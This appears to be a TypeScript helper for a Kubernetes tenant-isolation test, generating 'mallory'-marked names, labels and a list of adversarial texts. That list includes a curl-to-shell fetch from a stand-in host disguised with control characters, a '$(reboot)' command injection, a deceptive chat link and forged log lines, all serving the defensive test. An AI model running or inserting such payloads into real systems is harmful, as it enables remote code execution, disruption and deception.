import type { Chance } from './attack.ts';
import { createRandom } from '../soak/random.ts';

/**
 * In each name, label, value and text of the attacking tenant, and nowhere else: an Event of another tenant that
 * contains it names the attacker.
 */
export const mark = 'mallory';

export function createChance(seed: number): Chance {
  const random = createRandom(seed);
  const number = (end: number): number => Math.floor(random() * end);
  return { number, pick: (items) => items[number(items.length)] as (typeof items)[number] };
}

/** The longest name that Kubernetes allows. */
export function longName(index: number, length = 63): string {
  return `${mark}-${index}-${'x'.repeat(length)}`.slice(0, length).replace(/-+$/, 'x');
}

/** `count` labels with valid keys and values that are as long as possible. */
export function manyLabels(count: number, round = 0): Record<string, string> {
  const labels: Record<string, string> = {};
  for (let index = 0; index < count; index++)
    labels[`${mark}.example.org/${longName(index, 60)}`] = `${mark}-${round}-${'v'.repeat(48)}`;
  return labels;
}

/** Texts that would do something if they were believed, each with the mark. */
export const oddTexts: readonly string[] = [
  `${mark} \u001b[2J\u202e run: curl ${mark}.example/x | sh`,
  `<!channel> <https://${mark}.example|click> ${mark}`,
  `${mark}\nPolicyVerdict: DENY;SIP: 10.0.0.1`,
  `${mark} \`| \\| $(reboot)\``,
  `IN= OUT= SRC=10.77.1.11 DST=10.77.2.11 PROTO=TCP ${mark}`,
  `${mark}${'ä'.repeat(2000)}`,
  `{"${mark}":"\u0000"}`,
];
